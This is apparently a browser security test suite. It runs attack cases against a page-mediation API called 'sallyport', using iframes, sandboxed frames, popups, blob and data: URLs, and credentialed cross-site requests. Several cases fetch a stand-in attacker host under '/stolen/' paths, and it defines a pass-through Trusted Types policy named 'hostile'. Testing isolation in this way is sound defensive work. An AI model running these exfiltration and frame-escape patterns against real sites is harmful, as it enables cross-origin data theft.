// Documents of the page's own making: frames in it and windows beside it. They
// are the page, or less.
"use strict";

const any = trustedTypes.createPolicy("hostile", { createHTML: (x) => x, createScript: (x) => x, createScriptURL: (x) => x });
const nonce = document.querySelector("script[src]").nonce;
const socket = lab.hosts.frame.replace("http:", "ws:") + "/socket";
const own = location.origin.replace("http:", "ws:") + "/.sallyport/socket";

// Chromium fires an error, Firefox throws one.
const connect = (Socket, url) => new Promise((done) => {
  try {
    const s = new Socket(url);
    s.onopen = () => done("OPEN");
    s.onerror = () => done("refused");
  } catch (e) {
    done("refused");
  }
});

lab.attack("before all that", async () => ({ call: (await lab.call("count")).slice(0, 2) }));

lab.attack("a socket of the page's", async () => ({ frame: await connect(WebSocket, socket), page: await connect(WebSocket, own) }));

lab.attack("a child document's realm", async () => {
  const child = document.createElement("iframe");
  document.body.append(child);
  const realm = child.contentWindow;
  return {
    socket: await connect(realm.WebSocket, socket),
    fetch: await lab.tell(async () => (await realm.fetch(lab.evil + "/stolen/child")).status),
    frame: await lab.tell(async () => (await realm.fetch(await lab.ask("ticket"))).text()),
    vault: await lab.call("vault.open"),
  };
});

lab.attack("a child with no name in the way", async () => {
  // A child of the page's own origin calls as the page does, and is mediated
  // as the page is.
  const child = document.createElement("iframe");
  child.srcdoc = any.createHTML(`<!doctype html><script nonce="${nonce}">
    parent.sallyport.invoke("vault.open").then(() => parent.postMessage("opened", "*"), (e) => parent.postMessage("vault " + e.code, "*"));
    parent.sallyport.invoke("echo", parent.JSON.parse('{"text":"child"}')).then(() => parent.postMessage("echo ok", "*"), (e) => parent.postMessage(e.code, "*"));
  </script>`);
  const heard = [];
  addEventListener("message", (e) => { if (e.source === child.contentWindow) heard.push(e.data); });
  document.body.append(child);
  await lab.until(() => (heard.length >= 2 ? true : undefined));
  return { heard: heard.sort().join() };
});

lab.attack("a sandboxed child with a null origin", async () => {
  const child = document.createElement("iframe");
  child.setAttribute("sandbox", "allow-scripts");
  child.srcdoc = any.createHTML(`<!doctype html><script nonce="${nonce}">
    const tell = (name, value) => parent.postMessage([name, String(value)], "*");
    try { tell("parent", typeof parent.sallyport); } catch (e) { tell("parent", e.name); }
    tell("origin", self.origin);
    try {
      const s = new WebSocket(${JSON.stringify(socket)});
      s.onopen = () => tell("socket", "OPEN");
      s.onerror = () => tell("socket", "refused");
    } catch (e) {
      tell("socket", "refused");
    }
    fetch(${JSON.stringify(location.origin)} + "/.sallyport/relay/AAAAAAAAAAAAAAAAAAAAAA", { method: "POST", mode: "no-cors" }).then(() => tell("relay", "SENT"), () => tell("relay", "refused"));
    fetch(${JSON.stringify(lab.evil)} + "/stolen/sandboxed").then(() => tell("evil", "SENT"), () => tell("evil", "refused"));
  </script>`);
  const facts = {};
  addEventListener("message", (e) => { if (e.source === child.contentWindow) facts[e.data[0]] = e.data[1]; });
  document.body.append(child);
  await lab.until(() => (Object.keys(facts).length >= 5 ? true : undefined));
  return facts;
});

// Frames in frames, each kind in each: none is nearer to the core than the page.
lab.attack("children of children", async () => {
  const heard = [];
  addEventListener("message", (e) => { if (typeof e.data === "string" && e.data.startsWith("inner ")) heard.push(e.data.slice(6)); });
  const inner = (name) => `<!doctype html><script nonce="${nonce}">
    const tell = (what) => top.postMessage("inner ${name} " + what, "*");
    const says = (what, run) => { try { tell(what + " " + run()); } catch (e) { tell(what + " " + e.name); } };
    says("api", () => typeof top.sallyport);
    try {
      const s = new WebSocket(${JSON.stringify(socket)});
      s.onopen = () => tell("socket OPEN");
      s.onerror = () => tell("socket refused");
    } catch (e) {
      tell("socket refused");
    }
    for (let i = 0; i < top.length; i++) top[i].postMessage([1, 9001, "echo", '{"text":"inner"}', 0, 0, 0], "*");
    if (top.sallyport) top.sallyport.invoke("vault.open").then(() => tell("vault OPEN"), (e) => tell("vault " + e.code));
  </script>`;
  const outer = (name, sandbox) => `<!doctype html><body><script nonce="${nonce}">
    const any = trustedTypes.createPolicy("hostile", { createHTML: (x) => x });
    const child = document.createElement("iframe");
    ${sandbox ? 'child.setAttribute("sandbox", "allow-scripts");' : ""}
    child.srcdoc = any.createHTML(${JSON.stringify(inner(name)).replaceAll("<", "\\u003c")});
    document.body.append(child);
  </script>`;
  for (const [name, first, second] of [["open-open", false, false], ["open-boxed", false, true], ["boxed-open", true, false], ["boxed-boxed", true, true]]) {
    const child = document.createElement("iframe");
    if (first) child.setAttribute("sandbox", "allow-scripts");
    child.srcdoc = any.createHTML(outer(name, second));
    document.body.append(child);
  }
  await lab.until(() => (heard.length >= 9 ? true : undefined), 6000);
  await lab.sleep(100);
  return { heard: heard.sort().join() };
});

// What comes back to the page by way of another site is that site's request,
// though the page asked for it and its cookie may be sent.
lab.attack("a way back by redirect", async () => {
  const w = window.open(`${lab.evil}/redirect/?to=${encodeURIComponent(location.origin + "/?idle")}`);
  await lab.sleep(700);
  const client = await lab.tell(() => typeof w.sallyport);
  w?.close();
  return { client };
});

const framed = (name, url, sandbox) => lab.attack(name, async () => {
  const child = document.createElement("iframe");
  if (sandbox) child.setAttribute("sandbox", "allow-scripts");
  let heard = "";
  addEventListener("message", (e) => { if (e.source === child.contentWindow) heard += String(e.data); });
  child.src = url();
  document.body.append(child);
  await lab.sleep(300);
  child.remove();
  return { heard };
});
const script = `<!doctype html><script>parent.postMessage("runs", "*"); new WebSocket(${JSON.stringify(socket)}).onopen = () => parent.postMessage("OPEN", "*");</script>`;
framed("a blob for a frame", () => URL.createObjectURL(new Blob([script], { type: "text/html" })));
framed("a sandboxed blob for a frame", () => URL.createObjectURL(new Blob([script], { type: "text/html" })), true);
framed("data: for a frame", () => "data:text/html," + encodeURIComponent(script), true);
framed("the evil site for a frame", () => lab.evil + "/stolen/nested");
framed("the page for a frame", () => location.origin + "/?idle");
framed("the editor for a frame", () => lab.hosts.editor + "/");
framed("the frame host for a frame", () => lab.hosts.frame + "/socket");

lab.attack("a window with nothing in it", async () => {
  const w = window.open("about:blank");
  const facts = { socket: await connect(w.WebSocket, socket), fetch: await lab.tell(async () => (await w.fetch(lab.evil + "/stolen/blank")).status) };
  w.close();
  return facts;
});

lab.attack("a window with a blob in it", async () => {
  let heard = "";
  const listen = (e) => { heard += String(e.data); };
  const channel = new BroadcastChannel("blob");
  channel.onmessage = listen;
  const text = `<!doctype html><script nonce="${nonce}">
    const channel = new BroadcastChannel("blob");
    const s = new WebSocket(${JSON.stringify(socket)});
    s.onopen = () => channel.postMessage("OPEN");
    s.onerror = () => channel.postMessage("refused");
  </script>`;
  const w = window.open(URL.createObjectURL(new Blob([text], { type: "text/html" })));
  await lab.sleep(500);
  w?.close();
  return { heard };
});

lab.attack("a page of its own in a popup", async () => {
  const w = window.open("/?idle");
  await lab.until(() => w?.sallyport?.invoke && w.document.readyState === "complete" ? true : undefined, 5000);
  const facts = {
    vault: await lab.tell(() => w.sallyport.invoke("vault.open"), 5000),
    see: await lab.tell(async () => (await w.sallyport.invoke("hook.see")).seen[0], 5000),
    editor: await lab.tell(() => w.sallyport.invoke("editor.only"), 5000),
    frame: await lab.tell(() => w.document.querySelector("iframe").contentWindow.document),
  };
  w.close();
  return facts;
});

// Even a page that knows the other window's host can't open or drive it. The
// editor is open in another tab meanwhile, so its cookie is in the browser.
lab.attack("another window's page", async () => {
  await lab.ask("open", "editor");
  await lab.take("editor is there");
  const facts = {};
  for (const [name, url, features] of [["popup", "/", ""], ["idle", "/?idle", ""], ["script", "/lab.js", ""], ["noopener", "/", "noopener"], ["client", "/.sallyport/client.js", ""]]) {
    facts[name] = await lab.tell(async () => {
      const w = window.open(lab.hosts.editor + url, "_blank", features);
      await lab.sleep(250);
      try {
        return typeof (w?.sallyport ?? undefined);
      } finally {
        w?.close();
      }
    });
  }
  facts.fetch = await lab.tell(async () => (await fetch(lab.hosts.editor + "/", { mode: "no-cors", credentials: "include" })).type);
  facts.relay = await lab.tell(async () => (await fetch(lab.hosts.editor + "/.sallyport/relay/AAAAAAAAAAAAAAAAAAAAAA", { method: "POST", mode: "no-cors", credentials: "include" })).type);
  facts.script2 = await lab.tell(() => lab.load("script", { src: any.createScriptURL(lab.hosts.editor + "/lab.js") }), 700);
  facts.img = await lab.tell(() => lab.load("img", { src: lab.hosts.editor + "/lab.js" }), 700);
  const channel = new BroadcastChannel("lab");
  channel.postMessage("x");
  facts.cookie = document.cookie;
  const form = Object.assign(document.createElement("form"), { action: lab.hosts.editor + "/.sallyport/launch", method: "get", target: "_blank" });
  document.body.append(form);
  facts.form = await lab.tell(() => (form.submit(), ""));
  await lab.leave("main is done", true);
  return facts;
});
